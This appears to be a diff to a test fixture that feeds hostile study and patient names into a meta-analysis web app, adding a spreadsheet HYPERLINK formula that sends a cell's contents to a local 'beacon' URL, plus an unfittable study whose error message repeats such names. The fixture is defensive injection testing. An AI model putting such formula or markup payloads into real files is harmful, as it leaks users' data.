@@ -31,11 +31,13 @@ def payloads(port: int = 9) -> dict[str, str]:
         "quote_newline": "O'Brien \"the\"\nsecond line",
         "long": "L" * 300,
         "rtl": f"{RLO}evil{PDF} name",
+        "formula": f'=HYPERLINK("{beacon}/beacon-csv?"&A1,"x")',
     }
 
 
 def hostile_frame(port: int = 9, n_patients: int = 14, n_sessions: int = 6) -> pd.DataFrame:
-    """Long data, five studies (so pooling, leave-one-out and funnel plots run), hostile names everywhere."""
+    """Long data, five studies (so pooling, leave-one-out and funnel plots run) and one that cannot be
+    fitted, hostile names everywhere."""
     p = payloads(port)
     study_names = [p["md_image"], p["html_img"], p["latex"] + " " + p["script"], p["quote_newline"] + " " + p["rtl"],
                    p["long"] + p["md_link"]]
@@ -49,6 +51,13 @@ def hostile_frame(port: int = 9, n_patients: int = 14, n_sessions: int = 6) -> p
         d["therapist"] = [f"{keys[(t + 3) % len(keys)]} T{t}" for t in pd.factorize(d["therapist"])[0]]
         d["setting"] = s % 2  # a study-level moderator, named below
         frames.append(d)
+    # a sixth study too small to fit (2 patients): its failure message quotes its name
+    tiny = simulate_study(2, range(1, 3), study=p["formula"] + " " + p["md_image"].replace("beacon-md", "beacon-fail"),
+                          seed=99, therapist=True, n_therapists=1).data
+    tiny["patient"] = ["@patient " + str(x) for x in tiny["patient"]]
+    tiny["therapist"] = "-therapist"
+    tiny["setting"] = 1
+    frames.append(tiny)
     df = pd.concat(frames, ignore_index=True)
     return df.rename(columns={
         # id columns keep names the Data page maps by itself (so the browser test needs no clicks);
